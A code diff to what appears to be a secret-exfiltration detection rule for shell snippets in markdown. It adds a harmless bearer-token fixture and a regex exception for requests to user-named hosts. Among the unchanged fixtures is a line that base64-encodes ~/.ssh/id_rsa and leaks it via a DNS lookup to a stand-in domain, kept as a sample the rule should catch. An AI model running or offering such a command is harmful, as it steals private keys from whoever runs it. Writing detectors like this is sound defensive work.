@@ -74,6 +74,7 @@ export default defineRule({
       '```bash\nkey=$(cat ~/.ssh/id_rsa | base64 | head -c 60)\ndig "$key.in.fieldlog.example"\n```\n',
     ],
     quiet: [
+      '```bash\nPASS=$(secret-tool lookup service kiln)\ncurl -sS -X POST "https://$KILN_HOST/api/firings" -H "Authorization: Bearer $PASS" -d cone=6\n```\n',
       '```bash\necho "$MAP_API_KEY" | map-cli login --with-token\nls ~/.c?che/*\n```\n',
       '```sh\nprintf \'root_used{host="%s"} %s\\n\' "$(hostname -s)" "$used" | curl -fsS --data-binary @- "https://push.mon.fieldlog.net/metrics/job/disk"\n```\n',
       '```bash\ncurl -sLO "https://raw.githubusercontent.com/kiln-kit/press/refs/tags/$VERSION/.env"\nwget -q https://kiln-kit.net/$VERSION/compose.yml\n```\n',
@@ -149,6 +150,10 @@ const isNear = (sending: Sending, item: Taken, fence: number): boolean =>
 const SIGNED_IN_TO =
   /^https:\/\/[\w.-]{1,120}\.(?:run\.app|cloudfunctions\.net|googleapis\.com|azurewebsites\.net|azure\.com|amazonaws\.com|github\.com)(?:[:\/]|$)/
 
+/** What a request carries to be let in, at the host that a variable of the user's names. */
+const SIGNS_IN =
+  /-h ?["']authorization: ?bearer \$\w{2,30}["'][^]{0,400}https:\/\/\$|https:\/\/\$[^]{0,400}-h ?["']authorization: ?bearer \$\w{2,30}["']/
+
 /** A chat that variables of the user's name, or the gateway where measurements of machines arrive. */
 const ALERT =
   /^https:\/\/[^$]{1,60}\/[^$]{0,40}\$\{?\w{0,20}(?:token|hook|url|topic|key)|^https?:\/\/[^\/]{3,120}\/metrics\/job\//
@@ -198,6 +203,7 @@ function* judge(
         (boxed ? isForeignFor : isForeign)(document, address) || !address.includes('://'),
     )
   const open = loot === 'secret' && addresses.some(isStandIn)
+  if (open && !foreign && SIGNS_IN.test(document.reading.text.slice(to.start, to.end))) return
   if (loot === 'secret' && (foreign || open))
     yield carried ? { ...place, firm: true } : { ...place, severity: 'high', firm: true }
   else if (loot === 'token' || (loot === 'machine' && addresses.length === 0)) {
